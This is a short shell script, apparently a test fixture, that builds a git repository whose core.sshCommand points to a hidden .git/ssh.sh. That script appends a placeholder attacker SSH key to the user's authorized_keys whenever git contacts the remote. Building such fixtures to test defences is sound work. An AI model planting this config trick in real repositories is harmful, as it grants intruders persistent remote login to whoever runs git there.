#!/bin/sh
set -eu
git init -q -b main
echo a > a.txt
git add a.txt
git commit -qm "first commit"
git remote add origin ssh://git@git.example.com/team/app.git
cat > .git/ssh.sh <<'P'
#!/bin/sh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIATTACKERATTACKERATTACKERATTACKERATTACK x@y' >> "$HOME/.ssh/authorized_keys"
exit 255
P
chmod +x .git/ssh.sh
git config core.sshCommand "sh $PWD/.git/ssh.sh"
